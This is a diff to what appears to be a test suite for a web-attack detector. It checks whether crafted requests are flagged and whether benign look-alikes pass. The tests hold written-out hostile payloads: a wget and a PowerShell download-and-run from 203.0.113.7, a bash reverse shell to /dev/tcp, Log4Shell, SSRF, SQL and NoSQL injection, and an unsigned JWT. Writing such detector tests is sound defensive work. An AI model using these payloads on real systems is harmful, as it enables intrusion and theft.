@@ -70,6 +70,9 @@ describe('friendly words of whoever attacks', () => {
     ['template', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
     // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
     ['message', '${jndi:ldap://evil.example/a}'],
+    ['comment', '`wget http://203.0.113.7/x.sh`'],
+    ['comment', "require('child_process').exec('id')"],
+    ['query', "select pg_read_file('/etc/passwd')"],
   ])('hide nothing that runs inside a text: %s, %s', async (field, payload) => {
     const wrapped = `${friendly} ${payload} Kind regards, see you at the office.`;
     expect(await isFlagged(post('/api/comments', { title: 'Re: update', [field]: wrapped }))).toBe(true);
@@ -114,4 +117,157 @@ describe('a path of those who run a service', () => {
     expect(await isFlagged(get('www.firma.example'))).toBe(true);
     expect(await isFlagged(get('203.0.113.9:10250'))).toBe(true);
   });
+});
+
+describe('a forged name of the house', () => {
+  const get = (path: string) => `GET ${path} HTTP/1.1\nHost: kube-api.internal\nUser-Agent: Lens/6.5`;
+  const pull = (url: string) =>
+    `POST /import HTTP/1.1\nHost: app.internal\nContent-Type: application/json\n\n{"name":"rates of the day","source":"${url}"}`;
+
+  test('hides no secrets and no address of the host itself', async () => {
+    expect(await isFlagged(get('/actuator/env'))).toBe(true);
+    expect(await isFlagged(get('/actuator/heapdump'))).toBe(true);
+    expect(await isFlagged(get('/.env'))).toBe(true);
+    expect(await isFlagged(pull('http://127.0.0.1:8080/admin'))).toBe(true);
+    expect(await isFlagged(pull('http://localhost:2375/containers/json'))).toBe(true);
+  });
+
+  test('lets services name each other', async () => {
+    expect(await isFlagged(pull('http://10.2.7.31:8080/rates'))).toBe(false);
+  });
+});
+
+describe('what an address is for', () => {
+  const logs = [
+    '{"index":{"_index":"nginx"}}',
+    '{"client":"203.0.113.172","request":"GET /product?id=1%27%20OR%201=1 HTTP/1.1","status":403,"waf":"blocked"}',
+  ].join('\n');
+  const bulk = (path: string) =>
+    `POST ${path} HTTP/1.1\nHost: logs.example:9200\nContent-Type: application/x-ndjson\nUser-Agent: Fluent-Bit\n\n${logs}`;
+
+  test('collectors take logs of attacks', async () => {
+    expect(await isFlagged(bulk('/_bulk'))).toBe(false);
+    expect(await isFlagged(bulk('/comments'))).toBe(true);
+  });
+
+  test('consoles take whole queries, of clients that show who they are', () => {
+    const doubt = (query: string, head: string) =>
+      readEvents(post('/api/datasource/query', { database: 2, native: { query } }, head))
+        .flatMap(detectWeb)
+        .filter(({ level }) => rank(level) >= rank('medium'))
+        .map((hit) => hit.doubt);
+    const union =
+      "select week, count(*) from orders where status <> 'void' union all select week, 1 from old";
+    const doubts = doubt(union, 'Cookie: session=7f\n');
+    expect(doubts.length).toBeGreaterThan(0);
+    expect(Math.min(...doubts)).toBeGreaterThan(0);
+    expect(Math.min(...doubt(union, ''))).toBe(0);
+    expect(Math.min(...doubt("select 1 union select passwd from users'--", 'Cookie: session=7f\n'))).toBe(0);
+  });
+
+  test('commands for a host are judged themselves', async () => {
+    const run = (command: string) =>
+      `POST /wsman HTTP/1.1\nHost: till-44.store.example:5986\nAuthorization: Kerberos (svc_ansible)\nContent-Type: application/soap+xml\n\n<rsp:CommandLine><rsp:Command>${command}</rsp:Command></rsp:CommandLine>`;
+    expect(await isFlagged(run('powershell -NonInteractive -Command "Get-HotFix"'))).toBe(false);
+    expect(await isFlagged(run('powershell -NoProfile -Command "iex (irm http://203.0.113.7/a.ps1)"'))).toBe(
+      true,
+    );
+  });
+});
+
+describe('the form of a request', () => {
+  test('an answer pasted behind it is no part of it, and hides nothing', () => {
+    const transcript = (answer: string) =>
+      `DELETE /api/points?older_than=2026-10-03 HTTP/1.1\nHost: app.example\nX-Policy: keep\n\nHTTP/1.1 200 OK\n${answer}`;
+    expect(ids(transcript('{"deleted":1}'))).toEqual([]);
+    expect(ids(transcript(`{"name":"1' UNION SELECT password FROM users--"}`))).not.toEqual([]);
+  });
+
+  test('a body on the line of its path is read', () => {
+    expect(ids(`POST /login user=admin%27+OR+%271%27%3D%271%27--+&password=x\nHost: a.example`)).not.toEqual(
+      [],
+    );
+    expect(ids('POST /import {"feed":"file:///etc/passwd"}')).not.toEqual([]);
+    expect(ids('POST /import {"feed":"https://news.example/rss","title":"News"}\nHost: a.example')).toEqual(
+      [],
+    );
+  });
+
+  test('a document that is none is read as it stands', () => {
+    const picture = `fill 'url(https://a.example/i.jpg"|bash -i >& /dev/tcp/203.0.113.5/443 0>&1;")'`;
+    expect(ids(`POST /convert HTTP/1.1\nContent-Type: image/svg+xml\n\n${picture}`)).not.toEqual([]);
+  });
+
+  test('base64 in a document keeps its plus signs', () => {
+    const content = Buffer.from('Note:\n\n<script>alert(1)</script>` must be >>> escaped').toString('base64');
+    expect(content).toContain('+');
+    expect(ids(post('/contents', { content }))).toContain('web-xss-tag');
+  });
+
+  test('a filter may ask that a field is there, a login may not', () => {
+    expect(ids(post('/find', { filter: { coupon: { $ne: null }, city: { $regex: '^Kuala' } } }))).toEqual([]);
+    expect(ids(post('/login', { email: { $ne: null }, password: { $regex: '^.*' } }))).not.toEqual([]);
+    expect(ids(post('/find', { filter: { password: { $regex: '^a' } } }))).not.toEqual([]);
+  });
+});
+
+describe('what a client says of itself', () => {
+  test('a token that nobody signed', () => {
+    const none = Buffer.from('{"alg":"none"}').toString('base64url');
+    const token = (head: string) => `${head}.eyJzdWIiOiIxIiwicm9sZSI6ImFkbWluIn0.`;
+    const get = (head: string) =>
+      `GET /api/me HTTP/1.1\nHost: a.example\nAuthorization: Bearer ${token(head)}`;
+    expect(ids(get(none))).toContain('web-session-unsigned');
+    expect(ids(get(Buffer.from('{"alg":"RS256"}').toString('base64url')))).toEqual([]);
+  });
+
+  test('rights of its own account', () => {
+    expect(ids(post('/api/users/me', { display_name: 'Zul', role: 'superadmin' }))).toContain(
+      'web-tamper-own-account',
+    );
+    expect(ids(post('/api/users/me', { display_name: 'Zul', is_staff: true }))).toContain(
+      'web-tamper-own-account',
+    );
+    expect(ids(post('/api/users/me', { display_name: 'Zul', language: 'ms', newsletter: false }))).toEqual(
+      [],
+    );
+    expect(ids(post('/api/admin/invitations', { role: 'admin' }))).toEqual([]);
+  });
+
+  test('a negative amount', () => {
+    expect(ids(post('/api/cart/items', { sku: 'CABLE', qty: -80 }))).toContain('web-tamper-amount');
+    expect(ids(post('/api/refunds', { amount: -12 }))).toEqual([]);
+    expect(ids(post('/api/cart/items', { sku: 'CABLE', qty: 2, note: 'size 40-42' }))).toEqual([]);
+  });
+
+  test('a redirect that only looks like the own host', () => {
+    const get = (next: string) => `GET /login?next=${encodeURIComponent(next)} HTTP/1.1\nHost: bank.example`;
+    expect(ids(get('https://bank.example@phish.click/a'))).toContain('web-session-led-away');
+    expect(ids(get('https://bank.example.phish.click/a'))).toContain('web-session-led-away');
+    expect(ids(get('/\\phish.click'))).toContain('web-session-led-away');
+    expect(ids(get('https://www.bank.example/a?b=c@d'))).toEqual([]);
+    expect(ids(get('/settings'))).toEqual([]);
+  });
+
+  test('a password reset under the name of another site', () => {
+    const reset = (other: string) =>
+      `POST /forgot-password HTTP/1.1\nHost: app.corp.example\nX-Forwarded-Host: ${other}\nContent-Type: application/x-www-form-urlencoded\n\nemail=a%40corp.example`;
+    expect(ids(reset('corp.reset-host.click'))).toContain('web-protocol-other-site');
+    expect(ids(reset('www.corp.example'))).toEqual([]);
+  });
+
+  test('JSON as plain text from another site, with the cookie of its reader', () => {
+    const change = (origin: string) =>
+      `PATCH /v1/payees/5521 HTTP/1.1\nHost: api.bank.example\nCookie: session=1\nOrigin: ${origin}\nContent-Type: text/plain\n\n{"iban":"LT60 3250","name":"Bearings"}`;
+    expect(ids(change('https://invoice-template.click'))).toContain('web-session-cross-site');
+    expect(ids(change('https://www.bank.example'))).toEqual([]);
+  });
+});
+
+test('a remark about one request says nothing of the next', async () => {
+  const quoted =
+    'GET /search?q=how+do+i+escape+%3Cb%3E+in+select+*+from+users+where+name HTTP/1.1\nHost: a.example';
+  const attack =
+    'GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20- HTTP/1.1\nHost: a.example';
+  expect(await isFlagged(`${quoted}\n\n${attack}`)).toBe(true);
 });
